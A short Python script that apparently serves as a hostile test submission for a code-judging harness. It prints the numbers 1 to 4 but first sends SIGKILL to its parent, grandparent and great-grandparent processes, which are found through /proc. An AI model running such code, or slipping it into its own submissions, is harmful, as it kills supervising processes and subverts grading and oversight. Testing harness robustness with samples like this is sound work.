"""A right answer, and the end of its parent, of the parent of that, and of one more."""
import os
import signal
import time
from multiprocessing import Process


def parent_of(pid):
    with open(os.path.join("/", "proc", str(pid), "stat")) as file:
        return int(file.read().rpartition(")")[2].split()[1])


if __name__ == "__main__":
    ancestors = [os.getppid()]
    while len(ancestors) < 3 and ancestors[-1] > 1:
        ancestors.append(parent_of(ancestors[-1]))
    for ancestor in reversed(ancestors):
        try:
            os.kill(ancestor, signal.SIGKILL)
        except PermissionError:
            pass
    processes = [Process(target=print, args=(number,)) for number in range(1, 5)]
    for process in processes:
        process.start()
    for process in processes:
        process.join()
    time.sleep(5)
